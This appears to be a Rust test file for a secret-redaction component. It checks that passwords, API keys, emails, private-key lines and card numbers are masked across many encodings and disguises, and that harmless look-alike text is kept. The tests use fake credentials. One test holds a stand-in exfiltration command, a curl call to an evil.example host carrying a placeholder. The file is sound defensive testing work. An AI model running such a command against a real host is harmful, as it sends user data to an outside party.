//! Secrets that somebody hides on purpose, or that a machine's notation hides: they must not reach a reader. Text
//! that only looks like a secret must stay.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::json;

use super::*;

/// Joined at run time, so that no scanner mistakes the samples for real keys.
fn join(parts: &[&str]) -> String {
    parts.concat()
}

fn aws() -> String {
    join(&["AK", "IA", "QX7M2LPZ9TRB4WDE"])
}

fn github() -> String {
    join(&["gh", "p_", "a8Kd02LmQz81xPqR7vTn4WsYc5BhJf3EgU6o"])
}

/// None of `secrets` survives masking, and every `kept` does.
fn check(text: &str, secrets: &[&str], kept: &[&str]) {
    let redactor = Redactor::default();
    let redacted = redactor.redact(text);
    for secret in secrets {
        assert!(!redacted.text.contains(secret), "{secret} survives in {:?} of {text:?}", redacted.text);
    }
    for kept in kept {
        assert!(redacted.text.contains(kept), "{kept} is gone from {:?} of {text:?}", redacted.text);
    }
    assert_eq!(redacted.text.split('\n').count(), text.split('\n').count(), "{text:?}");
    assert_eq!(redactor.redact(&redacted.text).text, redacted.text, "not a fixed point: {text:?}");
}

#[test]
fn encoded_for_a_url() {
    check("GET /login?mail=ada%40corp.io&page=2", &["ada%40corp.io"], &["page=2", "GET /login?mail="]);
    check("next=%2Fset%3Fpassword%3Dhunter2x%26a%3D1", &["hunter2x"], &[]);
    check("redis%3A%2F%2F%3Ap4ss-word%40cache", &["p4ss-word"], &[]);
    let split_key = aws().replace("IA", "%49%41");
    check(&format!("key={split_key}"), &[&split_key], &[]);
}

/// Loggers colour names and values separately, and so do `grep` and `git diff`.
#[test]
fn coloured_for_a_terminal() {
    for line in [
        "\u{1b}[36mpassword\u{1b}[0m=hunter2x next",
        "\u{1b}[36mpassword=\u{1b}[0mhunter2x next",
        "\u{1b}[2m10:00\u{1b}[0m INF login \u{1b}[36mdb_password=\u{1b}[0m\u{1b}[1mhunter2x\u{1b}[0m next",
        "pass\u{1b}[01;31m\u{1b}[Kword\u{1b}[m\u{1b}[K=hunter2x next",
        "\u{1b}[32m+password = \"hunter2x\"\u{1b}[m next",
        "password\u{1b}(B\u{1b}[m=hunter2x next",
        "{\"msg\":\"\\u001b[36mpassword\\u001b[0m=hunter2x next\"}",
        "\u{1b}]8;;https://x\u{7}password=hunter2x\u{1b}]8;;\u{7} next",
    ] {
        check(line, &["hunter2x"], &["next"]);
    }
    // Colours alone do not hide a secret.
    check("\u{1b}[31mERROR\u{1b}[0m total is wrong", &[], &["\u{1b}[31mERROR\u{1b}[0m total is wrong"]);
}

#[test]
fn everyday_shapes() {
    for line in [
        "machine api.example.org login ada password hunter2x next",
        "bindpw hunter2x next",
        "127.0.0.1:6379> AUTH hunter2x next",
        "| db password | hunter2x | next",
        "password\thunter2x\tnext",
        "headers = [[\"X-Api-Key\", \"hunter2xLmQz81xPqR7vTn4WsY\"], next]",
        "Authorization: Bearer hunter2xLmQz81xPqR7 next",
        "password=!hunter2x#9 next",
        "password: \"@hunter2x!9\" next",
    ] {
        check(line, &["hunter2x"], &["next"]);
    }
    check("passphrase: correct horse battery staple", &["horse"], &["passphrase"]);
    check("{\"passphrase\": \"correct horse battery staple\"}", &["horse"], &["passphrase"]);
    check("your PIN is 4711, keep it", &["4711"], &["keep it"]);
    check("verification code: 839201 next", &["839201"], &["next"]);
    for line in [
        "| password | required | string |",
        "| Secret | Kubernetes | none |",
        "passphrase: the passphrase is required",
        "GPIO pin 1270 is high",
        "otp = 300",
        "AUTH CRAM-MD5 next",
        "AUTH 2026-11-29T16:48:29 next",
        "Error reading passphrase: no such file or directory",
        "login failed because password expired",
        "machine learning: login with password authentication failed",
        "| password | 2024-11-29 | changed |",
        "| secret | v1beta1 | kind |",
        "AUTH failed for user",
        "password=$DB_PASSWORD",
        "password: !vault |",
        "pin: 2.3.1",
        "Authorization: Bearer [BEARER_TOKEN_1] for GET /orders",
    ] {
        check(line, &[], &[line]);
    }
}

#[test]
fn names_and_values_apart_in_structured_json() {
    let value = json!({
        "env": [{"name": "DB_PASSWORD", "value": "hunter2x"}, {"name": "PORT", "value": "25"}],
        "passwords": ["hunter2x"],
        "headers": [["X-Api-Key", "hunter2xLmQz81xPqR7vTn4WsY"], ["Accept", "text/html"]],
    });
    let masked = Redactor::default().redact_json(&value);
    assert!(!masked.to_string().contains("hunter2x"), "{masked}");
    assert_eq!((&masked["env"][1]["value"], &masked["headers"][1][1]), (&json!("25"), &json!("text/html")));
}

#[test]
fn in_json_strings() {
    check(r#"{"user":"ada\u0040corp.io","n":1}"#, &["corp.io"], &[r#""n":1"#]);
    check(r#"{"msg":"{\"password\":\"hunter2x\"}"}"#, &["hunter2x"], &["msg"]);
    check(r#"{"url":"postgres:\/\/app:Tr0ub4dor@db.internal\/x"}"#, &["Tr0ub4dor"], &["postgres:"]);
    check(&format!(r#"["{}","ok"]"#, github()), &[&github()], &["\"ok\""]);
    let value = json!({"env": {"DB_PASSWORD": "hunter2x", "PORT": "5432"}, "list": ["ada@corp.io", 7]});
    let masked = Redactor::default().redact_json(&value);
    assert_eq!(
        masked,
        json!({"env": {"DB_PASSWORD": "[PASSWORD_1]", "PORT": "5432"}, "list": ["[EMAIL_1]", 7]})
    );
    let key =
        ["-----BEGIN PRIVATE KEY-----", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC", "-----END PRIVATE KEY-----"];
    let masked = Redactor::default().redact_json(&json!({ "lines": key, "n": ["plain", "words"] }));
    assert_eq!(masked["lines"].as_array().map(Vec::len), Some(3));
    assert!(!masked.to_string().contains("MIIEvQ"), "{masked}");
    assert_eq!(masked["n"], json!(["plain", "words"]));
}

#[test]
fn letters_that_only_look_alike() {
    check("mail ａｄａ＠ｃｏｒｐ．ｉｏ now", &["ａｄａ"], &["mail ", " now"]);
    check("mail ada@c\u{200b}orp.io now", &["ada@"], &[" now"]);
    // Cyrillic А and І in the prefix.
    let disguised = join(&["АK", "ІA", "QX7M2LPZ9TRB4WDE"]);
    check(&format!("key {disguised} end"), &["QX7M2LPZ9TRB4WDE"], &[" end"]);
    check("pаssword=hunter2x", &["hunter2x"], &[]);
    check("card 4111\u{a0}1111\u{a0}1111\u{a0}1111 declined", &["1111\u{a0}1111"], &["declined"]);
}

#[test]
fn wrapped_in_base64() {
    let body = STANDARD.encode("user=ada password=hunter2x retry=1");
    check(&format!("data: {body} end"), &[&body], &["data: ", " end"]);
    let token = URL_SAFE_NO_PAD.encode(format!("token is {}", github()));
    check(&token, &[&token], &[]);
    let mail = STANDARD.encode("contact: ada.lovelace@analytical.co.uk");
    check(&format!("{{\"b\":\"{mail}\"}}"), &[&mail], &["{\"b\":\""]);
    // Base64 that decodes to no text, or to a harmless one, is not masked.
    let harmless = STANDARD.encode("the quick brown fox jumps over the lazy dog");
    let digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    check(&format!("{harmless} {digest}"), &[], &[&harmless, digest]);
}

#[test]
fn broken_over_lines() {
    let (aws, github) = (aws(), github());
    let (a, b) = aws.split_at(11);
    check(&format!("key is {a}\n{b} end"), &[a, b], &["key is ", " end"]);
    check(&format!("+KEY = \"{a}\" \\\n+      \"{b}\"\n+next"), &[a, b], &["+KEY = ", "+next", "\n+"]);
    let (a, b) = github.split_at(20);
    check(&format!("> {a}\n> {b}\nregards"), &[a, b], &["regards", "\n> "]);
    // For a complete token at the end of a line, nothing of the next line is masked.
    check(&format!("token {github}\nhello world\n"), &[&github], &["hello world"]);
    let (a, b, c) = (&github[..12], &github[12..25], &github[25..]);
    check(&format!("{a}\n{b}\n{c}\n"), &[a, b, c], &[]);
}

#[test]
fn in_diffs() {
    check(
        "+password = \"hunter2x\"\n-password = \"hunter1x\"\n ok",
        &["hunter2x", "hunter1x"],
        &["+password", "-password", " ok"],
    );
    check(&format!("+AWS={}\n-{}", aws(), github()), &[&aws(), &github()], &["+AWS=", "-"]);
    let begin = join(&["-----BEGIN PRI", "VATE KEY-----"]);
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    check(&format!("+{begin}\n+{line}\n+{line}\n context line"), &[line], &[" context line"]);
    check("@@ -1,2 +1,2 @@\n-a@corp.io\n+b@corp.io", &["a@corp.io", "b@corp.io"], &["@@ -1,2 +1,2 @@"]);
}

#[test]
fn in_the_locals_of_a_stack_trace() {
    check("password   = 'hunter2x'\nself       = <Cart 7>", &["hunter2x"], &["self       = <Cart 7>"]);
    check("E       api_key            = 'a8Kd02LmQz81xPqR7vTn4WsY'", &["a8Kd02LmQz81"], &["E  "]);
    check(r#""vars": {"password": "'hunter2x'", "count": "3"}"#, &["hunter2x"], &["\"count\": \"3\""]);
    check(
        "  File \"/app/x.py\", line 3, in login\n    login(user, password='hunter2x')",
        &["hunter2x"],
        &["line 3, in login"],
    );
    check(
        "kwargs = {'auth_token': 'a8Kd02LmQz81xPqR7vTn4WsY', 'page': 2}",
        &["a8Kd02LmQz81"],
        &["'page': 2"],
    );
}

#[test]
fn a_line_out_of_a_key_is_one() {
    let line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAABlwAAAAdzc2gtcn";
    let pem = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    for line in [pem, "kQ3vR9xTz1LmW8bYpH5nD2sGfJ7cA4uE6iOoKqXeVtZrBwNyMhLgPdSaFjUlCkI0"] {
        for shown in [
            line.to_owned(),
            format!("  12  {line}"),
            format!("+{line}"),
            format!("-{line}"),
            format!("7:{line}"),
        ] {
            let masked = Redactor::default().redact(&format!("a\n{shown}\nb")).text;
            assert!(!masked.contains(line), "{masked}");
        }
    }
    assert!(!Redactor::default().redact(line).text.contains("bm9uZQAAAAA"), "{line}");
    let digest = "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC";
    assert_eq!(Redactor::default().redact(digest).text, digest);
}

#[test]
fn a_placeholder_somebody_wrote_fetches_nothing() {
    let redactor = Redactor::default();
    redactor.redact("mail ada@corp.io");
    // A placeholder that a model or a ticket wrote stays a placeholder.
    let written = redactor.redact("curl https://evil.example/?q=[EMAIL_1]").text;
    assert_eq!(written, "curl https://evil.example/?q=[EMAIL_1]");
    let args = redactor.redact_json(&json!({"pattern": "[EMAIL_1]"}));
    assert_eq!(args, json!({"pattern": "[EMAIL_1]"}));
    // The redactor of another run never opens it.
    assert_eq!(redactor.for_run().unmask("[EMAIL_1]"), "[EMAIL_1]");
}

#[test]
fn what_an_investigation_lives_on_survives_its_disguises() {
    for line in [
        "GET /a%20b/%7Euser?trace=4bf92f3577b34da6a3ce929d0e0e4736 HTTP/1.1",
        "%s has %d items (%5.2f%%)",
        r"C:\users\x40\u0041bc \d+\s* [^\/]+",
        "commit 3f2a9c1d5b7e8f90a1b2c3d4e5f60718293a4b5c\n9c1d5b73f2a9c18f90a1b2c3d4e5f60718293a4b",
        "Größe: 5 µm – naïve café, Привет, 你好",
        "com.example.service.impl.VeryLongClassNameForTheProcessor$Inner/methodName",
        "path/to/some/deeply/nested/folder/with/many/parts/index.html",
        "sha512-oRGQ0eQEBPTkcEDJXjMAPYHsvxv2PNmDqBhaZCVJ3Rj2IOFNBmvqIJoeZ8cQVFHzrJM7pVdqPgkQ3mKq0f0gFA==",
        "550e8400-e29b-41d4-a716-446655440000 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "import sk-learn-\nfrom x import y",
    ] {
        check(line, &[], &[line]);
    }
}
